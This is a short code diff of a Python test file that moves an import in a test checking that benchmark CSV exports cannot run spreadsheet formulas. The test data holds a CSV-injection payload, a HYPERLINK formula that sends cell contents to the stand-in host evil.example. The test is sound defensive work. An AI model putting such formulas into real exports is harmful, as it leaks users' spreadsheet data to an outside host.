@@ -783,7 +783,8 @@ def test_m3u_export_keeps_one_entry_per_song(tmp_path):
 
 
 def test_benchmark_csv_cannot_run_a_formula(tmp_path):
-    from trainer.evaluate import BenchResult, ScoreRow, load_reference_tables
+    from trainer.evaluate import ScoreRow
+    from trainer.results import BenchResult, load_reference_tables
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     res = BenchResult(
